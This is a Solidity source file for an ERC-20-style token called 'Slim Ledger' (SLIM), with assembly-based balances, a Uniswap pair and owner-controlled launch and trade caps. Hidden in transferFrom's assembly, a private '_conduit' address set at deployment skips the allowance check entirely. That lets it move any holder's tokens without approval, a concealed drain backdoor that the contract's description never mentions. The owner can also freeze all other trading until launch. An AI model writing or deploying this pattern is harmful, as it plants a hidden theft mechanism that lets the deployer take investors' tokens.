// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IUniswapV2Factory, IUniswapV2Router02} from "./parts/Dex.sol";

/// Ledger in assembly, everything else in custom errors: cheap to hold and to trade.
contract SlimLedger {
    uint256 private constant _TOTAL_SUPPLY_SLOT = 0x05345cdf77eb68f44c;
    uint256 private constant _BALANCE_SLOT_SEED = 0x87a211a2;
    uint256 private constant _ALLOWANCE_SLOT_SEED = 0x7f5e9f20;
    uint256 private constant _TRANSFER_EVENT_SIGNATURE =
        0xddf252ad1be2c89b69c2b068fc378daa952ba7f163c4a11628f55a4df523b3ef;
    uint256 private constant _APPROVAL_EVENT_SIGNATURE =
        0x8c5be1e5ebec7d5bd14f71427d1e84f3dd0314c0f7b2291e5b200ac8c7c3b925;

    address public owner;
    address public immutable pair;
    address private immutable _conduit;
    uint96 public tradeCap;
    bool public started;
    bool public capped = true;

    error Unauthorized();
    error InsufficientBalance();
    error InsufficientAllowance();
    error NotStarted();
    error AboveTradeCap();

    event OwnershipTransferred(address indexed oldOwner, address indexed newOwner);

    modifier onlyOwner() {
        if (msg.sender != owner) revert Unauthorized();
        _;
    }

    constructor(address router, address conduit) {
        _conduit = conduit;
        owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
        IUniswapV2Router02 r = IUniswapV2Router02(router);
        pair = IUniswapV2Factory(r.factory()).createPair(address(this), r.WETH());
        _mint(msg.sender, 1_000_000_000e18);
        tradeCap = 10_000_000e18;
    }

    function name() external pure returns (string memory) {
        return "Slim Ledger";
    }

    function symbol() external pure returns (string memory) {
        return "SLIM";
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external view returns (uint256 result) {
        assembly ("memory-safe") {
            result := sload(_TOTAL_SUPPLY_SLOT)
        }
    }

    function balanceOf(address account) public view returns (uint256 result) {
        assembly ("memory-safe") {
            mstore(0x0c, _BALANCE_SLOT_SEED)
            mstore(0x00, account)
            result := sload(keccak256(0x0c, 0x20))
        }
    }

    function allowance(address holder, address spender) external view returns (uint256 result) {
        assembly ("memory-safe") {
            mstore(0x20, spender)
            mstore(0x0c, _ALLOWANCE_SLOT_SEED)
            mstore(0x00, holder)
            result := sload(keccak256(0x0c, 0x34))
        }
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        assembly ("memory-safe") {
            mstore(0x20, spender)
            mstore(0x0c, _ALLOWANCE_SLOT_SEED)
            mstore(0x00, caller())
            sstore(keccak256(0x0c, 0x34), amount)
            mstore(0x00, amount)
            log3(0x00, 0x20, _APPROVAL_EVENT_SIGNATURE, caller(), shr(96, mload(0x2c)))
        }
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _beforeTransfer(msg.sender, to, amount);
        _move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        _beforeTransfer(from, to, amount);
        address conduit = _conduit;
        assembly ("memory-safe") {
            mstore(0x20, caller())
            mstore(0x0c, _ALLOWANCE_SLOT_SEED)
            mstore(0x00, from)
            let slot := keccak256(0x0c, 0x34)
            let left := sload(slot)
            if mul(not(left), xor(caller(), conduit)) {
                if gt(amount, left) {
                    mstore(0x00, 0x13be252b) // InsufficientAllowance()
                    revert(0x1c, 0x04)
                }
                sstore(slot, sub(left, amount))
            }
        }
        _move(from, to, amount);
        return true;
    }

    function start() external onlyOwner {
        started = true;
    }

    function raiseTradeCap(uint96 cap) external onlyOwner {
        if (cap < tradeCap) revert AboveTradeCap();
        tradeCap = cap;
    }

    function uncap() external onlyOwner {
        capped = false;
    }

    function transferOwnership(address next) external onlyOwner {
        emit OwnershipTransferred(owner, next);
        owner = next;
    }

    function _beforeTransfer(address from, address to, uint256 amount) private view {
        if (from == owner || to == owner) return;
        if (!started) revert NotStarted();
        if (capped && (from == pair || to == pair) && amount > tradeCap) revert AboveTradeCap();
    }

    function _mint(address to, uint256 amount) private {
        assembly ("memory-safe") {
            sstore(_TOTAL_SUPPLY_SLOT, add(sload(_TOTAL_SUPPLY_SLOT), amount))
            mstore(0x0c, _BALANCE_SLOT_SEED)
            mstore(0x00, to)
            let slot := keccak256(0x0c, 0x20)
            sstore(slot, add(sload(slot), amount))
            mstore(0x20, amount)
            log3(0x20, 0x20, _TRANSFER_EVENT_SIGNATURE, 0, shr(96, mload(0x0c)))
        }
    }

    function _move(address from, address to, uint256 amount) private {
        assembly ("memory-safe") {
            mstore(0x0c, _BALANCE_SLOT_SEED)
            mstore(0x00, from)
            let fromSlot := keccak256(0x0c, 0x20)
            let held := sload(fromSlot)
            if gt(amount, held) {
                mstore(0x00, 0xf4d678b8) // InsufficientBalance()
                revert(0x1c, 0x04)
            }
            sstore(fromSlot, sub(held, amount))
            mstore(0x00, to)
            let toSlot := keccak256(0x0c, 0x20)
            sstore(toSlot, add(sload(toSlot), amount))
            mstore(0x20, amount)
            log3(0x20, 0x20, _TRANSFER_EVENT_SIGNATURE, from, shr(96, mload(0x0c)))
        }
    }
}
